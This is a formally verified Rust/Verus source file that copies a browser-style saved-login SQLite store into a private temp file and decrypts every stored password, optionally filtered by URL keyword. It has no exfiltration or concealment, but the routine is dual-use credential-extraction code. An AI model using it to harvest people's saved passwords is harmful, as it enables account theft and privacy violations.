//! Store snapshotting and the record pipeline.
//!
//! The live credential store may be locked or actively written by its
//! owning application, so a query never touches it directly: it copies
//! the store into a private, owner-only temporary file, opens that copy
//! read-only, and walks the rows. Each row's ciphertext is decrypted
//! independently; a row that is empty, fails to decrypt, or has an empty
//! URL is skipped without aborting the batch.

use crate::crypto::{decrypt_password, spec_decrypt_blob, DERIVED_KEY_LEN};
use crate::models::{DecryptError, EncryptedRecord, EncryptedRecordV, LoginInfo, LoginInfoV,
    QueryParams};
use vstd::prelude::*;
use vstd::string::StringExecFns;

verus! {

#[verifier::external_type_specification]
#[verifier::external_body]
pub struct ExConnection(rusqlite::Connection);

#[verifier::external_type_specification]
#[verifier::external_body]
pub struct ExSqliteError(rusqlite::Error);

#[verifier::external_type_specification]
#[verifier::external_body]
pub struct ExTempPath(tempfile::TempPath);

/// Relies on `tempfile::NamedTempFile::new` (and `into_temp_path`): the
/// file is created at a freshly random, process-private name in the
/// temporary-files area, with owner-only (read/write) permission bits,
/// and is deleted when the returned handle is dropped, on every exit
/// path including unwinding.
#[verifier::external_body]
fn snapshot_slot() -> (r: Option<tempfile::TempPath>)
{
    match tempfile::NamedTempFile::new() {
        Ok(f) => Some(f.into_temp_path()),
        Err(_) => None,
    }
}

/// Relies on `std::path::Path::to_str` (via the handle's `Deref` to
/// `Path`): the textual form of the snapshot's path, when it is valid
/// Unicode.
#[verifier::external_body]
fn temp_path_string(p: &tempfile::TempPath) -> (r: Option<String>)
{
    p.to_str().map(|s| s.to_owned())
}

/// Relies on `rusqlite::backup::Backup` (`new`, `run_to_completion`)
/// with a read-only source connection: copies the source database's
/// point-in-time contents into the file at the destination path without
/// taking a write lock on the source. The backup API is used instead of
/// a raw byte copy of the file: it yields a transactionally consistent
/// snapshot even while the owning application is writing (a byte copy
/// could capture a torn page), restarts automatically if the source
/// changes mid-copy, and keeps raw filesystem primitives out of the
/// engine; on a source locked exclusively it reports busy, which
/// surfaces as this operation's error.
#[verifier::external_body]
fn copy_database(src: &str, dst: &str) -> (r: Result<(), rusqlite::Error>)
{
    let from = rusqlite::Connection::open_with_flags(
        src,
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )?;
    let mut to = rusqlite::Connection::open(dst)?;
    let backup = rusqlite::backup::Backup::new(&from, &mut to)?;
    backup.run_to_completion(64, std::time::Duration::from_millis(5), None)?;
    Ok(())
}

/// Relies on `rusqlite::Connection::open_with_flags`: opens the database
/// file read-only.
#[verifier::external_body]
fn open_database(path: &str) -> (r: Result<rusqlite::Connection, rusqlite::Error>)
{
    rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
}

/// What SQLite's `LIKE` operator (with its default settings, as a fresh
/// connection has them) returns for the given pattern and text.
pub uninterp spec fn sqlite_like_of(pattern: Seq<char>, text: Seq<char>) -> bool;

/// Relies on `rusqlite::Connection::prepare` and
/// `rusqlite::Statement::query_map`: runs the given parameterized
/// statement (with the pattern bound to its single placeholder when one
/// is supplied) and converts each row's three columns into an
/// [`EncryptedRecord`], in the statement's row order. When a pattern is
/// bound, the statement's `WHERE action_url LIKE ?` test admits a row
/// only if its URL matches the pattern, SQLite's documented `LIKE`
/// semantics ([`sqlite_like_of`]).
#[verifier::external_body]
fn fetch_login_rows(conn: &rusqlite::Connection, sql: &str, pattern: Option<&str>) -> (r: Result<
    Vec<EncryptedRecord>,
    rusqlite::Error,
>)
    requires
        pattern is Some ==> sql@
            == "SELECT action_url, username_value, password_value FROM logins WHERE action_url LIKE ?"@,
    ensures
        match (r, pattern) {
            (Ok(rows), Some(p)) => forall|i: int|
                0 <= i < rows.deep_view().len() ==> sqlite_like_of(
                    p@,
                    (#[trigger] rows.deep_view()[i]).url,
                ),
            _ => true,
        },
{
    let mut stmt = conn.prepare(sql)?;
    let to_record = |row: &rusqlite::Row| -> Result<EncryptedRecord, rusqlite::Error> {
        Ok(EncryptedRecord {
            url: row.get(0)?,
            username: row.get(1)?,
            ciphertext: row.get(2)?,
        })
    };
    let rows = match pattern {
        Some(p) => stmt.query_map((p,), to_record)?.collect(),
        None => stmt.query_map((), to_record)?.collect(),
    };
    rows
}

/// Relies on `rusqlite::Error`'s `Display` implementation for the
/// diagnostic text.
#[verifier::external_body]
fn sqlite_error_message(e: &rusqlite::Error) -> (r: String)
{
    format!("{}", e)
}

/// A scoped, process-private, owner-only-readable copy of the credential
/// store. Dropping it deletes the file, on every exit path; a deletion
/// failure is ignored, never escalated.
pub struct StoreSnapshot {
    path: String,
    handle: tempfile::TempPath,
}

impl View for StoreSnapshot {
    type V = Seq<char>;

    closed spec fn view(&self) -> Seq<char> {
        self.path@
    }
}

impl StoreSnapshot {
    /// The path of the snapshot file.
    pub fn path(&self) -> (r: &String)
        ensures
            r@ == self@,
    {
        &self.path
    }
}

/// Copies the credential store's point-in-time contents into a fresh
/// private snapshot file whose permission bits allow only the owner, and
/// whose lifetime is the returned handle's. Failure to create, name or
/// fill the snapshot is an `IoError`.
pub fn create_temp_db_copy(db_path: &str) -> (r: Result<StoreSnapshot, DecryptError>)
    ensures
        r matches Err(e) ==> e is IoError,
{
    let slot = match snapshot_slot() {
        Some(p) => p,
        None => {
            return Err(DecryptError::IoError("could not create snapshot file".to_owned()));
        },
    };
    let path = match temp_path_string(&slot) {
        Some(s) => s,
        None => {
            return Err(DecryptError::IoError("snapshot path is not valid Unicode".to_owned()));
        },
    };
    match copy_database(db_path, path.as_str()) {
        Ok(()) => Ok(StoreSnapshot { path, handle: slot }),
        Err(e) => Err(DecryptError::IoError(sqlite_error_message(&e))),
    }
}

/// What one row contributes to the result: `None` when the row is
/// skipped, in the fixed order of reasons — empty ciphertext first, then
/// decryption failure, then empty URL.
pub open spec fn spec_row_result(key: Seq<u8>, row: EncryptedRecordV) -> Option<LoginInfoV> {
    if row.ciphertext.len() == 0 {
        None
    } else {
        match spec_decrypt_blob(key, row.ciphertext) {
            Some(pw) => if row.url.len() == 0 {
                None
            } else {
                Some(LoginInfoV { url: row.url, username: row.username, password: pw })
            },
            None => None,
        }
    }
}

/// The pipeline's pure core: every row that decrypts (and has a
/// non-empty ciphertext and URL) contributes one entry, in row order.
pub open spec fn spec_decrypt_rows(key: Seq<u8>, rows: Seq<EncryptedRecordV>) -> Seq<LoginInfoV> {
    rows.filter_map(|row: EncryptedRecordV| spec_row_result(key, row))
}

/// Per-record isolation law: of `N` rows of which exactly `K` are
/// skipped (empty or undecipherable ciphertext, or empty URL), exactly
/// `N - K` records survive, and the survivors keep their relative row
/// order — the result is precisely the in-order image of the surviving
/// rows.
pub proof fn lemma_per_record_isolation(key: Seq<u8>, rows: Seq<EncryptedRecordV>)
    ensures
        spec_decrypt_rows(key, rows).len() + rows.filter(
            |row: EncryptedRecordV| spec_row_result(key, row) is None,
        ).len() == rows.len(),
        spec_decrypt_rows(key, rows) == rows.filter(
            |row: EncryptedRecordV| spec_row_result(key, row) is Some,
        ).map_values(|row: EncryptedRecordV| spec_row_result(key, row)->Some_0),
    decreases rows.len(),
{
    reveal(Seq::filter);
    let f = |row: EncryptedRecordV| spec_row_result(key, row);
    let dead = |row: EncryptedRecordV| spec_row_result(key, row) is None;
    let live = |row: EncryptedRecordV| spec_row_result(key, row) is Some;
    let out = |row: EncryptedRecordV| spec_row_result(key, row)->Some_0;
    if rows.len() == 0 {
        assert(spec_decrypt_rows(key, rows) =~= rows.filter(live).map_values(out));
    } else {
        let rest = rows.drop_last();
        lemma_per_record_isolation(key, rest);
        let last = rows.last();
        if live(last) {
            assert(rows.filter(live).map_values(out) =~= rest.filter(live).map_values(out)
                + seq![f(last)->Some_0]);
            assert(spec_decrypt_rows(key, rows) =~= rest.filter_map(f) + seq![f(last)->Some_0]);
        } else {
            assert(rows.filter(live).map_values(out) =~= rest.filter(live).map_values(out));
        }
        assert(spec_decrypt_rows(key, rows) == rows.filter(live).map_values(out));
    }
}

/// Decrypts a batch of rows under the derived key, skipping — in this
/// order — rows with empty ciphertext, rows that fail to decrypt, and
/// rows with an empty URL, never aborting the batch for one bad row.
pub fn decrypt_rows(key: &[u8], rows: &Vec<EncryptedRecord>) -> (out: Vec<LoginInfo>)
    requires
        key@.len() == DERIVED_KEY_LEN,
    ensures
        out.deep_view() == spec_decrypt_rows(key@, rows.deep_view()),
{
    let ghost f = |row: EncryptedRecordV| spec_row_result(key@, row);
    let mut out: Vec<LoginInfo> = Vec::new();
    let mut i: usize = 0;
    while i < rows.len()
        invariant
            key@.len() == DERIVED_KEY_LEN,
            i <= rows@.len(),
            f == (|row: EncryptedRecordV| spec_row_result(key@, row)),
            out.deep_view() =~= rows.deep_view().take(i as int).filter_map(f),
        decreases rows@.len() - i,
    {
        let ghost prev = out.deep_view();
        let row = &rows[i];
        proof {
            assert(rows.deep_view()[i as int] == row.deep_view());
            rows.deep_view().lemma_filter_map_take_succ(f, i as int);
        }
        if row.ciphertext.len() > 0 {
            match decrypt_password(key, row.ciphertext.as_slice()) {
                Ok(pw) => {
                    if row.url.as_str().is_empty() {
                    } else {
                        let entry = LoginInfo {
                            url: row.url.as_str().to_owned(),
                            username: row.username.as_str().to_owned(),
                            password: pw,
                        };
                        out.push(entry);
                        proof {
                            assert(out.deep_view() =~= prev + seq![f(row.deep_view())->Some_0]);
                        }
                    }
                },
                Err(_) => {},
            }
        }
        i = i + 1;
    }
    proof {
        assert(rows.deep_view().take(rows@.len() as int) =~= rows.deep_view());
    }
    out
}

/// The `%keyword%` substring pattern handed to the store's `LIKE`
/// filter.
pub open spec fn spec_like_pattern(keyword: Seq<char>) -> Seq<char> {
    "%"@ + keyword + "%"@
}

/// Every record the pipeline emits takes its URL from one of the rows it
/// was given.
pub proof fn lemma_output_urls_come_from_rows(key: Seq<u8>, rows: Seq<EncryptedRecordV>, i: int)
    requires
        0 <= i < spec_decrypt_rows(key, rows).len(),
    ensures
        exists|j: int|
            0 <= j < rows.len() && (#[trigger] rows[j]).url == spec_decrypt_rows(key, rows)[i].url,
{
    let f = |row: EncryptedRecordV| spec_row_result(key, row);
    let out = spec_decrypt_rows(key, rows);
    let elt = out[i];
    assert(out.contains(elt)) by {
        assert(0 <= i < out.len() && out[i] == elt);
    }
    rows.lemma_filter_map_contains(f, elt);
    let t = choose|t: EncryptedRecordV| #[trigger] rows.contains(t) && f(t) == Some(elt);
    let j = choose|j: int| 0 <= j < rows.len() && rows[j] == t;
    assert(rows[j].url == elt.url);
}

/// Queries the credential store at `db_path` through a scoped private
/// snapshot and returns the rows that decrypt under the derived key.
/// Whatever rows the store holds, the result is exactly the pipeline's
/// image of the fetched rows, and when a keyword is supplied every
/// returned record's URL matches the `%keyword%` pattern; the snapshot
/// is destroyed on every exit path. A snapshot failure is an `IoError`;
/// an open or query failure is a `DatabaseError`; single undecipherable
/// rows are skipped, never escalated.
pub fn query_login_data(db_path: &str, params: &QueryParams<'_>) -> (r: Result<
    Vec<LoginInfo>,
    DecryptError,
>)
    requires
        params.derived_key@.len() == DERIVED_KEY_LEN,
    ensures
        match r {
            Ok(out) => (exists|rows: Seq<EncryptedRecordV>|
                out.deep_view() == spec_decrypt_rows(params.derived_key@, rows)) && (match params
                .keyword {
                Some(kw) => forall|i: int|
                    0 <= i < out.deep_view().len() ==> sqlite_like_of(
                        spec_like_pattern(kw@),
                        (#[trigger] out.deep_view()[i]).url,
                    ),
                None => true,
            }),
            Err(e) => e is IoError || e is DatabaseError,
        },
{
    let snapshot = match create_temp_db_copy(db_path) {
        Ok(s) => s,
        Err(e) => {
            return Err(e);
        },
    };
    let conn = match open_database(snapshot.path().as_str()) {
        Ok(c) => c,
        Err(e) => {
            return Err(DecryptError::DatabaseError(sqlite_error_message(&e)));
        },
    };
    match &params.keyword {
        Some(kw) => {
            let pattern = "%".to_owned().concat(kw.as_str()).concat("%");
            let fetched = fetch_login_rows(
                &conn,
                "SELECT action_url, username_value, password_value FROM logins WHERE action_url LIKE ?",
                Some(pattern.as_str()),
            );
            let rows = match fetched {
                Ok(rows) => rows,
                Err(e) => {
                    return Err(DecryptError::DatabaseError(sqlite_error_message(&e)));
                },
            };
            let out = decrypt_rows(params.derived_key, &rows);
            proof {
                assert(out.deep_view() == spec_decrypt_rows(
                    params.derived_key@,
                    rows.deep_view(),
                ));
                assert(pattern@ =~= spec_like_pattern(kw@));
                assert forall|i: int| 0 <= i < out.deep_view().len() implies sqlite_like_of(
                    spec_like_pattern(kw@),
                    (#[trigger] out.deep_view()[i]).url,
                ) by {
                    lemma_output_urls_come_from_rows(params.derived_key@, rows.deep_view(), i);
                    let j = choose|j: int|
                        0 <= j < rows.deep_view().len() && (#[trigger] rows.deep_view()[j]).url
                            == out.deep_view()[i].url;
                    assert(sqlite_like_of(pattern@, rows.deep_view()[j].url));
                }
            }
            Ok(out)
        },
        None => {
            let fetched = fetch_login_rows(
                &conn,
                "SELECT action_url, username_value, password_value FROM logins",
                None,
            );
            let rows = match fetched {
                Ok(rows) => rows,
                Err(e) => {
                    return Err(DecryptError::DatabaseError(sqlite_error_message(&e)));
                },
            };
            let out = decrypt_rows(params.derived_key, &rows);
            proof {
                assert(out.deep_view() == spec_decrypt_rows(
                    params.derived_key@,
                    rows.deep_view(),
                ));
            }
            Ok(out)
        },
    }
}

} // verus!
